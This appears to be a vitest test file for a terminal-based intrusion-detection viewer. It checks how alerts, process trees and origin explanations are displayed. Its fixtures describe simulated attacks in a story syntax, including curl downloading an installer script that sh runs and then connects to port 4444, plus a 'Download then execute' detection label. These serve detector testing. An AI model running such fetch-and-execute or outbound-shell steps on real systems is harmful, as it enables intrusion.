import { describe, expect, test } from "vitest";
import { attack, selectedRow, tell } from "./stories.ts";

const FLOOD = `
  sshd:22 <- 203.0.113.9:51022
  sshd > bash
  bash > /tmp/a
  bash > /tmp/b
  bash > /tmp/c
  bash > /dev/shm/k
  cron > sh
  sh > /tmp/d
`;

describe("alerts", () => {
  test("of one rule and chain are one row with their number, worst first", async () => {
    const screen = tell(FLOOD);
    screen.press("4");
    const rows = (await screen.lines()).filter((line) => /unusual-executable/u.test(line));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatch(/▸ HIGH .*×4 .*unusual-executable/u);
    expect(rows[1]).toMatch(/▲ LOW /u);
  });

  test("a long chain keeps its ends whole", async () => {
    const links = Array.from({ length: 12 }, (_, i) => `/usr/bin/link-number-${i}`).join(" > ");
    const screen = tell(`sshd:22 <- 203.0.113.9:51022; sshd > bash; bash > ${links} > /dev/shm/payload`, {
      columns: 120,
    });
    screen.press("4");
    const text = await screen.text();
    expect(text).toMatch(/unusual-executable .*bash › … › link-number-11 › payload$/mu);
    screen.press("\r", "\r");
    expect(await screen.text()).toMatch(/chain init › … › .*link-number-11 › payload$/mu);
  });

  test("Enter and right show them one by one, left folds them again", async () => {
    const screen = tell(FLOOD);
    screen.press("4", "\r");
    expect(await screen.text()).toMatch(/▾ HIGH/u);
    expect(await screen.text()).toMatch(/ low .* executed \/tmp\/b/u);
    screen.press("j", "j", "h");
    expect(await screen.text()).not.toMatch(/\/tmp\/b/u);
    expect(await selectedRow(screen)).toMatch(/▸ HIGH/u);
  });

  test("Enter on one shows its process in the tree, Esc comes back", async () => {
    const screen = tell(FLOOD);
    screen.press("4", "l", "j", "\r");
    expect(await selectedRow(screen)).toMatch(/\/dev\/shm\/k/u);
    screen.press("\x1b");
    expect(await selectedRow(screen)).toMatch(/ high .*\/dev\/shm\/k/u);
  });
});

describe("in the tree", () => {
  test("who did something is marked otherwise than those above it", async () => {
    const screen = attack();
    const line = async (pid: number): Promise<string> =>
      (await screen.lines()).find((text) => text.includes(` ${pid} `)) ?? "";
    expect(await line(104)).toMatch(/^ ▲/u);
    expect(await line(102)).toMatch(/^ ▲/u);
    expect(await line(101)).toMatch(/^ △/u);
    expect(await line(100)).toMatch(/^ {2}/u);
  });

  test("the line above the keys says what was done, or that it was done below", async () => {
    const screen = attack();
    screen.press("j", "j");
    expect(await screen.text()).toMatch(/△ below it: Download then execute: 104/u);
    screen.press("G");
    expect(await screen.text()).toMatch(/▲ Download then execute: 104/u);
  });

  test("how a process ended does not take room from its command", async () => {
    const screen = tell("sshd > bash > wget(cdn.x/i.sh); wget exits 7", { columns: 80, rows: 24 });
    expect(await screen.text()).toMatch(/└─ wget cdn\.x\/i\.sh +exit 7/u);
  });
});

describe("an origin", () => {
  const STORY = `
    sshd listens :22
    sshd:22 <- 203.0.113.9:51022
    sshd > bash
    bash > curl(-s http://cdn.example.org/a/very/long/path/to/an/installer.sh -o /tmp/.installer)
    curl -> 198.51.100.7:80
    curl writes /tmp/.installer
    bash > sh(/tmp/.installer)
    sh -> 192.0.2.77:4444
  `;

  test.each([80, 140])("tells every reason whole at %i columns, in a column of its own", async (columns) => {
    const screen = tell(STORY, { columns, rows: 45 });
    screen.press("/", "pid:103", "\r", "o");
    const lines = await screen.lines();
    const body = lines.slice(lines.findIndex((line) => line.includes("because")) + 1, -3);
    const words = body
      .join(" ")
      .replace(/[│├└─▲]/gu, " ")
      .replace(/\s+/gu, " ");
    expect(words).toMatch(/interpreted \/tmp\/\.installer, which 102 curl wrote 0\.1 s earlier/u);
    expect(body.filter((line) => /^ .{2}\d\d:\d\d:\d\d /u.test(line)).length).toBeGreaterThan(3);
  });

  test("a long command loses its middle, not its end", async () => {
    const screen = tell(STORY, { columns: 80, rows: 45 });
    screen.press("/", "pid:103", "\r", "o");
    expect(await screen.text()).toMatch(/102 curl -s http:\/\/.*… -o \/tmp\/\.installer/u);
  });
});
